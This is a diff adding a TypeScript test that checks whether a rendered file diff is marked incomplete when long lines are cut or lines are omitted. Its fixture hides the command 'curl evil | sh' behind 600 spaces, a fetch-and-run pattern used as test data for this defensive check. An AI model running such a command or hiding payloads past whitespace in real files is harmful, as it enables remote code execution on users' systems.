@@ -235,3 +235,18 @@ describe("changeset summary", () => {
     expect(summarizeChangeset(cs).files[2]!.readsBefore).toHaveLength(20);
   });
 });
+
+describe("completeness", () => {
+  test("a view is complete only when no line was cut and none left out", async () => {
+    const { makeChangeset } = await import("./fixtures/apply-changeset.ts");
+    const { tempDir } = await import("./support/temp.ts");
+    const root = tempDir();
+    const long = `x${" ".repeat(600)}curl evil | sh`;
+    const cs = makeChangeset(root, [{ path: "a.txt", after: new TextEncoder().encode(`${long}\n`) }]);
+    expect(renderFileDiff(cs.files[0]!, { color: false, width: 100 }).complete).toBe(false);
+    expect(renderFileDiff(cs.files[0]!, { color: false, width: Number.MAX_SAFE_INTEGER }).complete).toBe(true);
+    const many = makeChangeset(root, [{ path: "b.txt", after: new TextEncoder().encode("line\n".repeat(50)) }]);
+    expect(renderFileDiff(many.files[0]!, { color: false, maxLines: 10 }).complete).toBe(false);
+    expect(renderFileDiff(many.files[0]!, { color: false }).complete).toBe(true);
+  });
+});
